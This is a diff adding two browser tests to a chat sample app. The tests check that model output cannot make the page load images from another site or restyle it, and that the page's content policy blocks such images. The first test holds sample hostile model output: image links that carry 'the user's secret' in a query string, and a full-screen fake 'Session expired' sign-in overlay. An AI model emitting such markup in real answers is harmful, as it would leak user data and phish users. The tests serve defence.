@@ -139,6 +139,54 @@ public sealed class SamplePageTests(Chromium chromium) : IClassFixture<Chromium>
         await ScreenshotAsync("relay-error.png");
     }
 
+    [BrowserFact]
+    public async Task Model_output_can_neither_make_the_page_fetch_from_another_site_nor_restyle_the_page()
+    {
+        await using var outside = await OutsideSite.StartAsync();
+        var answer = $"Here you go. ![]({outside.Origin}/pixel.png?q=the+user%27s+secret) ![a chart]({outside.Origin}/chart.png) " +
+            $"<img src=\"{outside.Origin}/raw.png\" srcset=\"{outside.Origin}/set.png 2x\"> " +
+            $"<div style=\"position:fixed;inset:0;background:#fff;z-index:9\"><a href=\"{outside.Origin}/login\">Session expired: sign in again</a></div>";
+        var reply = ReplayResponse.FromChunks(Chunk("content", answer), """{"id":"c1","object":"chat.completion.chunk","model":"m","choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}""");
+        await using var server = await ReplayServer.StartAsync(reply);
+        await using var app = await StartSampleAsync(server);
+
+        await AskAsync(app, "Summarise my notes");
+        await Assertions.Expect(_page.Locator("body")).ToHaveAttributeAsync("data-state", "done");
+
+        var box = _page.Locator(".turn .answer");
+        Assert.Equal(0, await box.Locator("img").CountAsync());
+        Assert.Equal(0, await box.Locator("[style]").CountAsync());
+        await Assertions.Expect(box).ToContainTextAsync("[image: a chart]");
+        var overlay = await box.Locator("div").BoundingBoxAsync();
+        Assert.True(overlay!.Height < 100, $"The model's block covers {overlay.Width}x{overlay.Height}.");
+        await _page.WaitForLoadStateAsync(LoadState.NetworkIdle);
+        Assert.Empty(outside.Requests);
+    }
+
+    [BrowserFact]
+    public async Task The_pages_policy_stops_the_browser_loading_another_sites_image_even_if_markup_slips_past_the_sanitiser()
+    {
+        await using var outside = await OutsideSite.StartAsync();
+        await using var server = await ReplayServer.StartAsync(Script(reasoningPieces: 1).Response);
+        await using var app = await StartSampleAsync(server);
+        await _page.GotoAsync(app.Urls.First());
+
+        // As if the sanitiser had a hole: another site's image put straight into the page.
+        await _page.EvaluateAsync("""
+            url => {
+              window.violations = [];
+              document.addEventListener("securitypolicyviolation", e => violations.push(e.effectiveDirective + " " + e.blockedURI));
+              const image = document.createElement("img");
+              image.src = url;
+              document.body.appendChild(image);
+            }
+            """, outside.Origin + "/pixel.png?q=secret");
+
+        await _page.WaitForFunctionAsync("() => violations.length > 0");
+        Assert.StartsWith("img-src " + outside.Origin, (await _page.EvaluateAsync<string[]>("() => violations"))[0]);
+        Assert.Empty(outside.Requests);
+    }
+
     private async Task AskAsync(WebApplication app, string question)
     {
         await _page.GotoAsync(app.Urls.First());
